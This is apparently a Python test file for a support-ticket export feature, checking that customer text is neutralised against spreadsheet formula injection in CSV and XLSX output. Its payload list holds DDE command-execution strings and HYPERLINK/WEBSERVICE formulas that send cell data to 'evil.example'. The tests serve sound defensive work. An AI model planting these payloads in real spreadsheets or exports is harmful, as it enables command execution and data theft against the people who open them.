"""S17: nothing that a customer wrote is run by a spreadsheet, and no honest text is lost."""

import csv
import io
import itertools
import re
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.test import SimpleTestCase
from hypothesis import given
from hypothesis import strategies as st

from maru.support.exports.export import Form, Times
from maru.support.exports.harmless import LONGEST, harmless, original, writable
from maru.support.exports.tables import table

RUN = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'WEBSERVICE("http://evil.example")', "SUM(1+9)*cmd|' /C calc'!A0", "A1", "DDE(\"cmd\",\"x\")",
]  # fmt: skip
BEGIN = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "\u2212", "|", "%"]
BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "'",
    '"',
    "''",
    "\u200b",
    "\ufeff",
    "\u00a0",
    "\u3000",
    ' "',
    "\x0b",
]
PAYLOADS = [a + b + c for a, b, c in itertools.product(BEFORE, BEGIN, RUN)]
HONEST = [
    "-5",
    "+82 10-5550-0142",
    "=",
    "무쇠 냄비",
    "a=b",
    "1-2",
    "'tis",
    "'",
    "''",
    "",
    "-",
    "@home",
    "100%",
]
TEXT = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def cells_of_csv(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]


def written(form: str, texts: list[str]) -> Path:
    path = Path(tempfile.mkdtemp()) / f"table.{form}"
    out = table(form, path, ["글"], Times.LOCAL)
    for text in texts:
        out.write([text])
    out.close()
    return path


class HarmlessTests(SimpleTestCase):
    def test_every_payload_stands_behind_an_apostrophe(self):
        self.assertGreater(len(PAYLOADS), 1000)
        for payload in PAYLOADS:
            self.assertEqual(harmless(payload), "'" + payload, repr(payload))

    def test_the_text_comes_back_of_every_cell(self):
        for text in [*PAYLOADS, *HONEST]:
            self.assertEqual(original(harmless(text)), text)

    @given(st.text())
    def test_any_text_comes_back(self, text):
        self.assertEqual(original(harmless(text)), text)

    def test_text_that_begins_no_formula_is_left_alone(self):
        for text in ("무쇠 냄비", "a=b", "1-2", "", "'tis", "100%"):
            self.assertEqual(harmless(text), text)

    def test_a_file_of_csv_says_that_it_is_utf_8_and_holds_the_texts(self):
        texts = [text.replace("\r", "") for text in [*PAYLOADS, *HONEST]]
        path = written(Form.CSV, texts)
        self.assertTrue(path.read_bytes().startswith(b"\xef\xbb\xbf"))
        self.assertEqual([original(cell) for cell in cells_of_csv(path)], texts)

    def test_a_file_of_excel_has_no_formula_and_the_texts_as_they_are(self):
        path = written(Form.XLSX, [*PAYLOADS, *HONEST])
        with zipfile.ZipFile(path) as book:
            sheet = ElementTree.parse(book.open("xl/worksheets/sheet1.xml"))
            links = [name for name in book.namelist() if "external" in name or "rels/sh" in name]
        self.assertEqual((list(sheet.iter(f"{TEXT}f")), links), ([], []))
        kinds = {cell.get("t") for cell in sheet.iter(f"{TEXT}c")}
        self.assertEqual(kinds, {"inlineStr"})
        texts = [cell.find(f"{TEXT}is/{TEXT}t").text for cell in sheet.iter(f"{TEXT}c")]
        self.assertIn("-5", texts)
        self.assertIn("+82 10-5550-0142", texts)
        self.assertIn('=HYPERLINK("http://evil.example/?x="&A1,"click")', texts)

    def test_what_no_file_can_hold_is_no_reason_to_fail(self):
        path = written(Form.XLSX, ["a\x01b", "\ufffe", "x" * 40_000, "_x0041_", "\U0001f600"])
        with zipfile.ZipFile(path) as book:
            ElementTree.parse(book.open("xl/worksheets/sheet1.xml"))
        self.assertEqual(len(writable("x" * 40_000)), LONGEST)

    def test_a_spreadsheet_runs_none_of_them(self):
        office = shutil.which("soffice") or shutil.which("libreoffice")
        if office is None:
            pytest.skip("LibreOffice is not installed here")
        for form in Form.values:
            path = written(form, PAYLOADS)
            command = [
                office,
                "--headless",
                "--convert-to",
                "fods",
                "--outdir",
                str(path.parent),
                str(path),
            ]
            subprocess.run(command, check=True, capture_output=True, timeout=300)
            made = path.with_suffix(".fods").read_text(encoding="utf-8")
            self.assertEqual(re.findall(r'table:formula="([^"]*)"', made), [], form)
